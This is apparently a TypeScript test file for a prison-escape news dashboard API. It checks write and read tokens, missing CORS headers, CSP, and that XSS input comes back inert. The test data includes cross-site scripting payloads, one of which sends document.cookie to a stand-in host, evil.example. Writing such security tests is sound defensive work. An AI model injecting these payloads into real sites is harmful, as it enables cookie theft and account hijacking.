// Access and injection (issue 7): writes need the token, reads can be made private, no CORS,
// security headers with a CSP that forbids inline script, and script payloads posted through the
// API come back as inert JSON strings, stored exactly as sent, never in the dashboard's HTML.
// (A browser-level XSS test lives in test/browser/dashboard.test.ts.)
import { test, describe, before, after } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { Hono } from "hono";
import { openStore } from "../../src/store/open.ts";
import type { Store } from "../../src/store/store.ts";
import { createApp } from "../../src/server/app.ts";
import { tokenMatches } from "../../src/server/auth.ts";
import { WEB_DIST } from "../../src/server/paths.ts";

const WRITE = "write-secret-7f3a";
const READ = "read-secret-91c2";
const UNLIMITED = { writesPerMinute: null, readsPerMinute: null };
const auth = (token: string) => ({ authorization: `Bearer ${token}` });
const json = { "content-type": "application/json" };

/** The built dashboard when present, else its source page: both must be static, script-free HTML. */
function dashboardRoot(): string {
  if (existsSync(join(WEB_DIST, "index.html"))) return WEB_DIST;
  const root = mkdtempSync(join(tmpdir(), "escapewatch-web-"));
  writeFileSync(join(root, "index.html"), readFileSync(fileURLToPath(new URL("../../web/index.html", import.meta.url))));
  return root;
}

let store: Store;
let webRoot: string;
before(async () => {
  store = await openStore(":memory:");
  webRoot = dashboardRoot();
});
after(async () => {
  await store.close();
  if (webRoot !== WEB_DIST) rmSync(webRoot, { recursive: true, force: true });
});

const REPORT = JSON.stringify({ title: "Transfer", maintext: "Guards moved 40 inmates from Adra prison to Damascus on Monday, officials said." });

describe("who may write and read", () => {
  const WRITES: Array<[string, string | null, Record<string, string>, number]> = [
    ["no token configured, token sent", null, auth(WRITE), 403],
    ["no Authorization header", WRITE, {}, 401],
    ["wrong token", WRITE, auth("write-secret-7f3b"), 401],
    ["token prefix", WRITE, auth("write-secret"), 401],
    ["token with a suffix", WRITE, auth(`${WRITE}x`), 401],
    ["Basic scheme", WRITE, { authorization: `Basic ${WRITE}` }, 401],
    // A known reader: who they are is clear, their role does not write.
    ["the read token", WRITE, auth(READ), 403],
  ];
  for (const [name, token, headers, status] of WRITES) {
    test(`POST /api/documents with ${name} -> ${status}`, async () => {
      // Without a write token reads stay open here, so the refusal is the write check's own.
      const app = createApp({ store, token, readToken: token ? READ : null, rateLimits: UNLIMITED });
      const res = await app.request("/api/documents", { method: "POST", headers: { ...json, ...headers }, body: REPORT });
      assert.equal(res.status, status);
      assert.match(((await res.json()) as { error: { code: string } }).error.code, /^E_(UNAUTHORIZED|WRITES_DISABLED|FORBIDDEN)$/);
      assert.equal(await store.countDocuments(), 0, "nothing stored");
    });
  }

  test("the write token writes", async () => {
    const app = createApp({ store, token: WRITE, rateLimits: UNLIMITED });
    const res = await app.request("/api/documents", { method: "POST", headers: { ...json, ...auth(WRITE) }, body: REPORT });
    assert.ok(res.status === 201 || res.status === 200, String(res.status));
  });

  const READS: Array<[string, Record<string, string>, number]> = [
    ["no token", {}, 401],
    ["a wrong token", auth("nope"), 401],
    ["the read token", auth(READ), 200],
    ["the write token", auth(WRITE), 200],
  ];
  for (const [name, headers, status] of READS) {
    for (const path of ["/api/incidents", "/api/documents", "/api/facilities", "/api/openapi.json"]) {
      test(`with ESCAPEWATCH_READ_TOKEN set, GET ${path} with ${name} -> ${status}`, async () => {
        const app = createApp({ store, token: WRITE, readToken: READ, rateLimits: UNLIMITED });
        assert.equal((await app.request(path, { headers })).status, status);
      });
    }
  }

  test("tokens are compared in constant time over fixed-length digests", () => {
    const source = readFileSync(fileURLToPath(new URL("../../src/server/auth.ts", import.meta.url)), "utf8");
    assert.match(source, /timingSafeEqual\(/, "crypto.timingSafeEqual does the comparison");
    assert.match(source, /createHash\("sha256"\)/, "over sha256 digests, so lengths never short-circuit");
    assert.doesNotMatch(source, /given\s*===\s*expected|expected\s*===\s*given/, "no plain string equality");
    for (const [given, expected, ok] of [[WRITE, WRITE, true], ["", WRITE, false], [null, WRITE, false], ["x".repeat(10_000), WRITE, false]] as const) {
      assert.equal(tokenMatches(given, expected), ok);
    }
  });
});

describe("CORS and headers", () => {
  const ORIGIN = { origin: "https://attacker.example" };
  for (const [method, path] of [["GET", "/api/incidents"], ["OPTIONS", "/api/documents"], ["POST", "/api/documents"], ["GET", "/"]] as const) {
    test(`${method} ${path} with an Origin header gets no Access-Control-Allow-Origin`, async () => {
      const app = createApp({ store, token: WRITE, webRoot, rateLimits: UNLIMITED });
      const res = await app.request(path, {
        method,
        headers: { ...ORIGIN, ...(method === "OPTIONS" ? { "access-control-request-method": "POST" } : {}) },
      });
      assert.equal(res.headers.get("access-control-allow-origin"), null);
      assert.equal(res.headers.get("access-control-allow-credentials"), null);
    });
  }

  test("the dashboard HTML is served under a CSP that forbids inline script, and has none", async () => {
    const res = await createApp({ store, webRoot, rateLimits: UNLIMITED }).request("/");
    assert.equal(res.status, 200);
    assert.match(res.headers.get("content-type") ?? "", /^text\/html/);
    const csp = res.headers.get("content-security-policy") ?? "";
    const scriptSrc = /(?:^|;\s*)script-src ([^;]*)/.exec(csp)?.[1] ?? /(?:^|;\s*)default-src ([^;]*)/.exec(csp)?.[1];
    assert.ok(scriptSrc, "a script-src (or default-src) directive");
    assert.doesNotMatch(scriptSrc, /'unsafe-inline'|'unsafe-eval'|\*|data:/);
    assert.match(csp, /object-src 'none'/);
    assert.match(csp, /frame-ancestors 'none'/);
    assert.equal(res.headers.get("x-content-type-options"), "nosniff");
    // The page itself must work under that policy: every script is an external file, no handlers.
    const html = await res.text();
    for (const tag of html.match(/<script\b[^>]*>/gi) ?? []) assert.match(tag, /\ssrc=/, `external script only: ${tag}`);
    assert.doesNotMatch(html, /\son[a-z]+\s*=/i, "no inline event handlers");
    assert.doesNotMatch(html, /javascript:/i);
  });
});

describe("script payloads are inert data", () => {
  const PAYLOADS = [
    "<script>alert('title')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(document.cookie)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "\"><script>fetch('//evil.example/'+document.cookie)</script>",
    "javascript:alert(1)",
  ];
  let app: Hono;
  const stored: Array<{ payload: string; id: string }> = [];

  before(async () => {
    app = createApp({ store, token: WRITE, webRoot, rateLimits: UNLIMITED });
    for (const [i, payload] of PAYLOADS.entries()) {
      const body = {
        title: payload,
        url: i % 2 ? "javascript:alert(1)" : `https://news.example/story?q=${encodeURIComponent(payload)}`,
        maintext: `Gunmen stormed Ghwayran prison on Friday and 30 inmates escaped, officials said. ${payload} Report ${i}.`,
      };
      const res = await app.request("/api/documents", { method: "POST", headers: { ...json, ...auth(WRITE) }, body: JSON.stringify(body) });
      assert.equal(res.status, 201, await res.clone().text());
      stored.push({ payload, id: ((await res.json()) as { id: string }).id });
    }
  });

  test("each document comes back as JSON: the title as posted, the text with its markup stripped", async () => {
    for (const [i, { payload, id }] of stored.entries()) {
      const res = await app.request(`/api/documents/${encodeURIComponent(id)}`);
      assert.equal(res.status, 200);
      assert.match(res.headers.get("content-type") ?? "", /^application\/json/);
      assert.equal(res.headers.get("x-content-type-options"), "nosniff");
      const doc = (await res.json()) as { title: string; text: string; url: string | null };
      assert.equal(doc.title, payload, "title stored verbatim");
      // Inline HTML in a text field is read as HTML: elements become text, scripts go.
      assert.doesNotMatch(doc.text, /<\/?(?:script|img|svg|a)\b/i, `no markup left in the text: ${JSON.stringify(doc.text)}`);
      assert.doesNotMatch(doc.text, /alert\('title'\)|document\.cookie\)<|onerror|onload/, "script bodies and handlers are gone");
      if (!payload.includes("<")) assert.ok(doc.text.includes(payload), `plain text is kept verbatim: ${JSON.stringify(doc.text)}`);
      assert.notEqual(doc.url?.toLowerCase().startsWith("javascript:"), true, "a javascript: URL is never stored as the link");
      if (i % 2 === 0) assert.equal(doc.url, `https://news.example/story?q=${encodeURIComponent(payload)}`);
    }
  });

  test("lists and incidents carry the payloads only inside JSON strings", async () => {
    for (const path of ["/api/documents?limit=50", "/api/incidents?limit=50", "/api/facilities"]) {
      const res = await app.request(path);
      assert.match(res.headers.get("content-type") ?? "", /^application\/json/, path);
      JSON.parse(await res.text());
    }
  });

  test("the dashboard HTML never contains a payload, whatever the path", async () => {
    for (const path of ["/", "/index.html", `/${encodeURIComponent(PAYLOADS[0])}`, "/?q=<script>alert(1)</script>"]) {
      const res = await app.request(path);
      const body = await res.text();
      for (const payload of PAYLOADS) assert.ok(!body.includes(payload), `${path} reflects ${payload}`);
      if (res.status !== 200) assert.match(res.headers.get("content-type") ?? "", /^application\/json/, `${path} errors as JSON`);
    }
  });

  test("an unknown API path echoing a payload answers JSON, never HTML", async () => {
    const res = await app.request(`/api/${encodeURIComponent("<script>alert(1)</script>")}`);
    assert.equal(res.status, 404);
    assert.match(res.headers.get("content-type") ?? "", /^application\/json/);
  });
});
